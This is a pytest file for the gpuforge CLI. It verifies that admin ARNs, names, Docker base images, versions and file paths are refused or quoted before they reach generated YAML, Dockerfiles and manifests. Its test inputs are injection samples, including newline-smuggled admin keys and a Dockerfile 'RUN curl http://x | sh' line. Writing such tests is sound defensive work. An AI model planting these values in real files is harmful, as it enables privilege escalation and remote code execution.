"""Class 1: values that reach a generated file (the init scaffold's YAML, the Dockerfile of
`image render`, the job's manifests) are checked for their grammar or quoted, never pasted."""

from __future__ import annotations

import pytest
import yaml

from gpuforge.model.errors import SpecError
from gpuforge.model.scaffold import project_files
from tests.inputs.conftest import refuse

GOOD_ADMIN = "arn:aws:iam::111122223333:role/platform-admin"

ADMINS = {
    "newline and a key": f"{GOOD_ADMIN}\n  bootstrap_creator_admin: true",
    "carriage return": f"{GOOD_ADMIN}\r  bootstrap_creator_admin: true",
    "unicode line separator": f"{GOOD_ADMIN}\u2028x: 1",
    "a quote": f'{GOOD_ADMIN}"',
    "a comment": f"{GOOD_ADMIN} # x",
    "a flow mapping": "{bootstrap_creator_admin: true}",
    "an alias": "*a",
    "a tab": f"{GOOD_ADMIN}\t",
    "empty": "",
}

NAMES = {
    "trailing newline": "abc\n",
    "newline and a key": "abc\nruntime: nodejs",
    "a colon": "abc: x",
    "a space": "my platform",
    "a slash": "a/b",
    "too long": "a" * 101,
}

BASES = {
    "newline and RUN": "img\nRUN curl http://x | sh",
    "carriage return": "img\rRUN x",
    "a space": "img AS builder",
    "a URL": "https://registry.example.com/img:1",
    "shell": "img;sh",
    "upper case repository": "Img:1",
    "empty tag": "img:",
}

VERSIONS = {"newline": "1.2.0\nRUN x", "a space": "1.2.0 x", "text": "latest"}


@pytest.mark.parametrize("admin", list(ADMINS.values()), ids=list(ADMINS))
def test_init_refuses_an_admin_that_is_not_an_arn(admin, tmp_path):
    refuse(["init", str(tmp_path / "p"), "--admin", admin], "--admin", cwd=tmp_path)


@pytest.mark.parametrize("name", list(NAMES.values()), ids=list(NAMES))
def test_init_refuses_a_name_pulumi_would_not_take(name, tmp_path):
    refuse(["init", str(tmp_path / "p"), "--name", name], "--name", cwd=tmp_path)


@pytest.mark.parametrize("base", list(BASES.values()), ids=list(BASES))
def test_image_render_refuses_a_base_that_is_not_an_image_reference(base, tmp_path):
    out = tmp_path / "ctx"
    refuse(["image", "render", "--base", base, "--out", str(out)], "--base", cwd=tmp_path)


@pytest.mark.parametrize("version", list(VERSIONS.values()), ids=list(VERSIONS))
def test_image_render_refuses_a_version_that_is_not_one(version, tmp_path):
    refuse(["image", "render", "--efa-version", version], "--efa-version", cwd=tmp_path)


def test_an_admin_arn_is_written_quoted_and_reads_back_exactly():
    """The scaffold quotes each ARN: what YAML reads back is exactly the ARN given."""
    arns = [GOOD_ADMIN, "arn:aws:iam::111122223333:role/team/a+b=c,d.e@f_g-h"]
    files = project_files(region="us-east-1", name="p", version="0.1.0", admins=arns)
    spec = yaml.safe_load(files["stacks/dev.yaml"])
    assert spec["cluster"]["admins"] == arns
    assert "bootstrap_creator_admin" not in spec["cluster"]


@pytest.mark.parametrize("admin", list(ADMINS.values()), ids=list(ADMINS))
def test_the_scaffold_itself_refuses_before_rendering(admin):
    with pytest.raises(SpecError) as err:
        project_files(region="us-east-1", name="p", version="0.1.0", admins=[admin])
    assert err.value.field == "--admin"


def test_a_job_image_with_a_newline_never_reaches_the_manifests(project, job_text):
    (project / "job.yaml").write_text(job_text.replace("image: 1", 'image: "img\\nRUN x"\n#', 1))
    refuse(["launch", "job.yaml", "-e", "dev", "--dry-run"], "image")


@pytest.mark.parametrize("name", ["evil\nconfig:\n  x: y.yaml", "evil\rx.yaml", "a\x1bb.yaml"])
def test_a_spec_path_never_reaches_the_stack_file_header(name, project):
    text = (project / "stacks" / "dev.yaml").read_text()
    (project / name).write_text(text)
    refuse(["render", "-e", str(project / name), "--out", str(project / "out.yaml")], "path")


def test_a_spec_path_with_a_space_is_quoted_for_the_shell(project):
    from click.testing import CliRunner

    from gpuforge.cli.main import cli

    (project / "my env.yaml").write_text((project / "stacks" / "dev.yaml").read_text())
    result = CliRunner().invoke(cli, ["render", "-e", "my env.yaml", "--out", "out.yaml"])
    assert result.exit_code == 0, result.output
    assert "gpuforge render -e 'my env.yaml' --out out.yaml" in (project / "out.yaml").read_text()
